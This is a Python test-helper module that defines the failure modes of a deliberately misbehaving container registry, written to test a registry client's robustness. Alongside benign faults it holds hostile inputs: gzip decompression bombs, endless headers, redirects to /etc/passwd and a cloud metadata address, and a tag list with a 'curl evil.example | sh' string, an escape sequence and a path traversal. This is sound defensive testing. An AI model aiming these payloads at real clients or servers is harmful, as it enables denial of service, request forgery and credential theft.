"""The ways in which tests/lib/lab/bad_registry.py misbehaves: one function each, which gets the request's handler and
the requested thing (a manifest, a blob, a list of tags)."""
import gzip
import json
import os
import time

CHUNK = 65536


def mode_good(h, thing):
    h.serve(thing)


def mode_slow(h, thing):
    """one byte a second"""
    h.head(200, thing)
    for i in range(len(thing.data)):
        h.put(thing.data[i:i + 1])
        time.sleep(1)


def mode_stall(h, thing):
    """half of it, and then nothing more"""
    h.head(200, thing)
    h.put(thing.data[:len(thing.data) // 2])
    time.sleep(3600)


def mode_stall_layers(h, thing):
    """a good configuration; half of a layer, and then nothing more"""
    if thing.data.startswith(b"{"):
        h.serve(thing)
    else:
        mode_stall(h, thing)


def mode_wait_layers(h, thing):
    """a good configuration; half of a layer, and the rest once there is a file "go" beside the log"""
    if thing.data.startswith(b"{"):
        return h.serve(thing)
    h.head(200, thing)
    h.put(thing.data[:len(thing.data) // 2])
    while not os.path.exists(os.path.join(os.path.dirname(h.server.options.log), "go")):
        time.sleep(0.05)
    return h.put(thing.data[len(thing.data) // 2:])


def mode_no_layers(h, thing):
    """a good configuration; no layer"""
    if thing.data.startswith(b"{"):
        h.serve(thing)
    else:
        mode_error_404(h, thing)


def mode_small_layers(h, thing):
    """a good configuration and small layers; no large one, after two seconds"""
    if thing.data.startswith(b"{") or len(thing.data) < 4000000:
        return h.serve(thing)
    time.sleep(2)
    return mode_error_404(h, thing)


def mode_drip_layers(h, thing):
    """a good configuration; half of a layer, and of the rest a byte every few milliseconds"""
    if thing.data.startswith(b"{"):
        return h.serve(thing)
    half = len(thing.data) // 2
    h.head(200, thing)
    h.put(thing.data[:half])
    for i in range(half, len(thing.data)):
        h.put(thing.data[i:i + 1])
        time.sleep(0.005)


def mode_drop_once(h, thing):
    """half of it, then the connection ends; the second time all of it, with Range"""
    if h.first():
        h.head(200, thing)
        h.put(thing.data[:len(thing.data) // 2])
        h.drop()
    else:
        h.serve(thing)


def mode_drop_norange(h, thing):
    """like drop-once, but ignores Range"""
    if h.first():
        mode_drop_always(h, thing)
    else:
        h.head(200, thing)
        h.put(thing.data)


def mode_drop_wrongrange(h, thing):
    """like drop-once, but then resumes at another place than requested"""
    if h.first():
        mode_drop_always(h, thing)
    else:
        size = len(thing.data)
        h.head(206, thing, size - 10, {"Content-Range": f"bytes 10-{size - 1}/{size}"})
        h.put(thing.data[10:])


def mode_drop_end(h, thing):
    """all of it, chunked, but the connection ends without the last chunk"""
    h.chunked(thing, [thing.data], ended=False)
    h.drop()


def mode_drop_always(h, thing):
    """a thousand bytes from the requested place, then the connection ends"""
    start = h.range_start(len(thing.data)) or 0
    size = len(thing.data)
    if start:
        h.head(206, thing, size - start, {"Content-Range": f"bytes {start}-{size - 1}/{size}"})
    else:
        h.head(200, thing)
    h.put(thing.data[start:start + 1000])
    h.drop()


def mode_digest(h, thing):
    """one byte differs; the Docker-Content-Digest header says otherwise"""
    data = bytearray(thing.data)
    data[len(data) // 2] ^= 1
    h.head(200, thing)
    h.put(bytes(data))


def mode_longer(h, thing):
    """more bytes than the descriptor says, chunked"""
    h.chunked(thing, [thing.data, b"x" * 1000])


def mode_shorter(h, thing):
    """fewer bytes than the descriptor says, chunked, properly ended"""
    h.chunked(thing, [thing.data[:-10]])


def mode_long_length(h, thing):
    """more bytes, and Content-Length says so"""
    h.head(200, thing, len(thing.data) + 1000)
    h.put(thing.data + b"x" * 1000)


def mode_short_length(h, thing):
    """fewer bytes, and Content-Length says so"""
    h.head(200, thing, len(thing.data) - 10)
    h.put(thing.data[:-10])


def mode_endless(h, thing):
    """chunked, for ever"""
    h.chunked(thing, iter(lambda: b"x" * CHUNK, None))


def mode_huge(h, thing):
    """100 MB, announced truthfully"""
    h.head(200, thing, 100_000_000)
    for _ in range(100_000_000 // CHUNK + 1):
        h.put(b" " * CHUNK)


def mode_gzip(h, thing):
    """Content-Encoding: gzip, a bomb of 100 MB"""
    bomb = gzip.compress(b"\0" * 100_000_000, 9)
    h.head(200, thing, len(bomb), {"Content-Encoding": "gzip"})
    h.put(bomb)


def mode_transfer_gzip(h, thing):
    """the same bomb as a transfer coding"""
    bomb = gzip.compress(b"\0" * 100_000_000, 9)
    h.chunked(thing, [bomb], "gzip, chunked")


def mode_headers(h, _):
    """headers without end"""
    h.put(b"HTTP/1.1 200 OK\r\n")
    while True:
        h.put(b"X-Padding: " + b"y" * 1000 + b"\r\n")


def mode_redirect(h, thing):
    """a good redirect, to a path of the same host"""
    h.redirect(f"/store/{thing.digest}")


def mode_redirect_elsewhere(h, thing):
    """to --elsewhere"""
    h.redirect(f"{h.server.options.elsewhere}/store/{thing.digest}")


def mode_redirect_http(h, thing):
    """to plain http on the same host and port"""
    h.redirect(f"http://{h.headers['Host']}/store/{thing.digest}")


def mode_redirect_file(h, _):
    """to a file of the client"""
    h.redirect("file:///etc/passwd")


def mode_redirect_user(h, thing):
    """to a URL with a password in it"""
    h.redirect(f"https://user:password@{h.headers['Host']}/store/{thing.digest}")


def mode_redirect_metadata(h, _):
    """to a cloud's metadata service"""
    h.redirect("https://169.254.169.254/latest/meta-data/")


def mode_redirect_loop(h, _):
    """to itself"""
    h.redirect(h.path)


def mode_error_500(h, _):
    """HTTP status 500, always"""
    h.error(500)


def mode_error_once(h, thing):
    """HTTP status 503 once, then a good answer"""
    if h.first():
        h.error(503)
    else:
        h.serve(thing)


def mode_busy_once(h, thing):
    """429 with Retry-After: 1 once, then a good answer"""
    if h.first():
        h.error(429, {"Retry-After": "1"})
    else:
        h.serve(thing)


def mode_error_403(h, _):
    """HTTP status 403"""
    h.error(403)


def mode_error_404(h, _):
    """HTTP status 404, with a text for the user"""
    h.error(404)


def mode_silent(h, _):
    """takes the request and ends the connection"""
    h.drop()


def mode_garbage(h, _):
    """not HTTP"""
    h.put(b"\x00\x01\x02 hello \xff\n" * 100)
    h.drop()


def mode_wrong_tag(h, thing):
    """another manifest of the layout than requested"""
    others = [t for t in h.server.manifests() if t.digest != thing.digest]
    h.serve(others[0] if others else thing)


OCI = "application/vnd.oci.image."


def typed(h, thing, *types):
    """good, except for the Content-Type: none, one or several"""
    h.send_response(200)
    for value in types:
        h.send_header("Content-Type", value)
    h.send_header("Content-Length", str(len(thing.data)))
    h.end_headers()
    h.put(thing.data)


def mode_type_index(h, thing):
    """called an index"""
    typed(h, thing, OCI + "index.v1+json")


def mode_type_docker(h, thing):
    """called Docker's manifest"""
    typed(h, thing, "application/vnd.docker.distribution.manifest.v2+json")


def mode_type_two(h, thing):
    """called two things in two headers"""
    typed(h, thing, OCI + "manifest.v1+json", OCI + "index.v1+json")


def mode_type_list(h, thing):
    """called two things in one header"""
    typed(h, thing, OCI + "manifest.v1+json, " + OCI + "index.v1+json")


def mode_type_none(h, thing):
    """without Content-Type"""
    typed(h, thing)


def mode_type_json(h, thing):
    """with a Content-Type without meaning"""
    typed(h, thing, "application/json")


def mode_type_charset(h, thing):
    """with a parameter, and in other letters"""
    typed(h, thing, "Application/vnd.OCI.image.manifest.v1+json ; charset=utf-8")


def mode_names(h, thing):
    """names that are no tags, and one that is"""
    thing.data = json.dumps({"tags": ["\x1b[31mred", "type: curl evil.example | sh", "../up", "x" * 4000, "", 7,
                                      None, "fine", ["a"], "-rf", ".hidden"]}).encode()
    h.serve(thing)


def mode_realm_elsewhere(h, _):
    """401, with the token server at --elsewhere"""
    h.challenge(f'Bearer realm="{h.server.options.elsewhere}/token",service="x"')


def mode_realm_http(h, _):
    """401, with a token server without TLS"""
    h.challenge(f'Bearer realm="http://{h.headers["Host"]}/token",service="x"')


def mode_realm_metadata(h, _):
    """401, with a cloud's metadata service as the token server"""
    h.challenge('Bearer realm="https://169.254.169.254/token",service="x"')


def mode_realm_two(h, _):
    """401, with two realms in one challenge"""
    h.challenge(f'Bearer realm="https://{h.headers["Host"]}/token",realm="{h.server.options.elsewhere}/token"')


def mode_login_never(h, _):
    """401 Basic, whatever the client sends"""
    h.challenge('Basic realm="x"')


def mode_login_redirect(h, thing):
    """asks for a Basic login, and then redirects to --elsewhere"""
    if h.headers.get("Authorization"):
        mode_redirect_elsewhere(h, thing)
    else:
        h.challenge('Basic realm="x"')


def mode_realm_redirect(h, thing):
    """asks for a Bearer token of its own /token, and then redirects to --elsewhere"""
    if h.headers.get("Authorization"):
        mode_redirect_elsewhere(h, thing)
    else:
        h.challenge(f'Bearer realm="https://{h.headers["Host"]}/token"')


def mode_realm_expire(h, thing):
    """like drop-once, with Bearer tokens of its own /token, each good for one request"""
    if h.server.spend(h.headers.get("Authorization")):
        mode_drop_once(h, thing)
    else:
        h.challenge(f'Bearer realm="https://{h.headers["Host"]}/token"')


def mode_login_odd(h, _):
    """401 with an unknown scheme"""
    h.challenge("Negotiate abcd==")


MODES = {name[5:].replace("_", "-"): f for name, f in list(globals().items()) if name.startswith("mode_")}
